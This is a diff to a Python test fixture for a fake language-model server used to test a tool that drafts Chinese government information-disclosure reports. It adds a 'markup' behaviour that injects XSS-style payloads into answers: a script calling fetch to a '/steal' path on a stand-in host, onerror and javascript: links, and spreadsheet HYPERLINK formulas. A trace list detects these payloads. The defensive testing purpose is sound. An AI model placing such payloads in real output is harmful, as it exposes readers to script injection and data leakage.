@@ -10,7 +10,10 @@ the figure legend, or the draft a repair request sends back) and answers as one 
   tags are split across chunks) and ``reasoning_content`` beside it; both carry :data:`THINKING_MARK`;
 * ``hostile`` — the good answer with wrong literal figures (行政处罚 and 行政事业性收费 off from the table,
   a wrong 收到申请 total), a personal mobile and a thinking block; with ``huge`` a reply of about 1 MB.
-  :func:`planted` lists the exact wrong phrases, for tests to look for in the written draft.
+  :func:`planted` lists the exact wrong phrases, for tests to look for in the written draft;
+* ``markup`` — the good answer with :data:`MARKUP` after its first line: HTML (a script, an image with
+  onerror), a javascript: link, remote images, a pipe table, a spreadsheet formula, lines that look like
+  other parts' headings and a placeholder no table fills. :data:`MARKUP_TRACES` must never reach a draft.
 
 The server module (fake_openai.py) turns an :class:`Answer` into a reply; this module knows nothing of HTTP.
 """
@@ -21,7 +24,7 @@ import re
 from dataclasses import dataclass
 from typing import Any
 
-BEHAVIOURS = ("vague", "good", "reasoning", "hostile")
+BEHAVIOURS = ("vague", "good", "reasoning", "hostile", "markup")
 # In every piece of thinking the fake models produce: found in a draft, thinking leaked.
 THINKING_MARK = "【思考过程】"
 HOSTILE_MOBILE = "13812345678"
@@ -42,6 +45,38 @@ _DRAFT = re.compile(r"原稿：" + _BLOCK, re.DOTALL)
 _LEGEND_LINE = re.compile(r"^\{\{([a-z_]+\.[a-z_]+)\}\} = (\S+)　(.*)$", re.MULTILINE)
 # A figure as the template states it: a number followed by its unit.
 _FIGURE = re.compile(r"(?<![\d.])(\d+(?:\.\d+)?)(?=(?:件|条|次|个|篇|期|场|项|人次|万元))")
+
+# What the markup model adds to each section, one item a line.
+MARKUP = (
+    "<script>fetch('http://127.0.0.1:9/steal')</script>本年度政务公开工作<b>有序</b>推进。",
+    '<img src="http://127.0.0.1:9/x.png" onerror="alert(1)">详见[门户网站](javascript:alert(1))。',
+    "![标志](http://127.0.0.1:9/logo.png)图示见 http://127.0.0.1:9/chart.jpg 。",
+    "| 项目 | 数量 |",
+    "|---|---|",
+    '| 公开 | =HYPERLINK("http://127.0.0.1:9/","点击") |',
+    '=HYPERLINK("http://127.0.0.1:9/","查看详情")',
+    "二、主动公开政府信息情况",
+    "## 三、收到和处理政府信息公开申请情况",
+    "本年度共收到申请{{bogus.total}}件。",
+)
+# None of these may stand in a draft written from the markup model's sections (its own tables are the
+# writer's: a rule "|---|" is no trace).
+MARKUP_TRACES = (
+    "<script",
+    "fetch(",
+    "<img",
+    "<b>",
+    "onerror",
+    "alert(",
+    "javascript:",
+    "127.0.0.1:9",
+    "](",
+    "| 项目",
+    "=HYPERLINK",
+    "bogus",
+    "{{",
+    "本年度共收到申请件",
+)
 
 _VAGUE = {
     "preamble": "本报告根据有关规定编制。",
@@ -169,4 +204,7 @@ def answer(behaviour: str, body: dict[str, Any], *, huge: bool = False) -> Answe
         return Answer(f"<think>\n{thought}\n</think>\n\n{good_text(prompt)}", reasoning=thought, chunk_size=5)
     if behaviour == "hostile":
         return Answer(_hostile_text(prompt, huge), chunk_size=256 if huge else 8)
+    if behaviour == "markup":
+        first, _, rest = good_text(prompt).partition("\n")
+        return Answer("\n".join((first, *MARKUP, rest)).rstrip())
     raise ValueError(f"unknown behaviour {behaviour!r}; one of {', '.join(BEHAVIOURS)}")
